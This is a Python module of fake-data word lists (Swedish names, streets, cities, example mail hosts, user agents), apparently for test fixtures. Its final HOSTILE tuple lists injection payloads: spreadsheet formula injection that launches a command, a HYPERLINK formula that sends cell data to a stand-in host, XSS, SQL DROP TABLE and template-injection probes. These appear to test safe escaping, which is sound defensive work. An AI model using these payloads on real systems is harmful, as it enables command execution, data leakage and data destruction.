"""Words that invented people are put together from, in all the example companies."""

from __future__ import annotations


def split(text: str) -> tuple[str, ...]:
    """The words of a text."""
    return tuple(text.split())


FIRST = split(
    "Agnes Alva Amina Arvid Astrid Birgitta Bo Carina Conny Dagny Ebba Edvin Einar Ellen Elsa Emil "
    "Filip Frida Gösta Greta Gunilla Hanna Hassan Henrik Inga Ivar Jonas Kajsa Leila Lovisa Märta Nadia "
    "Nils Olof Pär Ragnhild Rut Saga Sixten Sölve Tage Tuva Ulf Valter Vera Yasmin Zoran Åke Åsa Örjan"
)
LAST = split(
    "Abrahamsson Alm Björk Boström Ceder Claesson Dalgren Edlund Ekholm Falk Fjellström Gran Grönlund "
    "Hallberg Hägg Isaksson Jönsson Kvist Lindahl Ljung Mattsson Moradi Nordin Norrby Novak Palm "
    "Petrović Rosén Sandell Sjödin Strömberg Sundin Tallberg Thorén Vikström Wallgren Yilmaz Åberg "
    "Åström Östlund"
)
STREETS = split(
    "Almgatan Bryggvägen Fjordgränd Hamngränd Kvarnvägen Lotsgatan Rönnstigen Sjöstigen Ängsgatan Ögatan"
)
CITIES = (
    ("100 04", "Stockholm"),
    ("400 10", "Göteborg"),
    ("200 10", "Malmö"),
    ("700 03", "Örebro"),
    ("720 03", "Västerås"),
    ("350 03", "Växjö"),
    ("900 10", "Umeå"),
)
MAIL_HOSTS = ("brevbrygga.example", "postlåda.example", "kustmejl.example")
"""The second is an internationalised name; it is also written `xn--postlda-ixa.example`."""

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0) Chrome/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) Safari/605.1",
)
HOSTILE = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://skum.example/?x="&A1;"klicka")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE customers; --",
    "＝1+1",
    "{{7*7}} ${7*7} %s %(x)s",
)
"""What somebody types to harm whoever opens the package."""
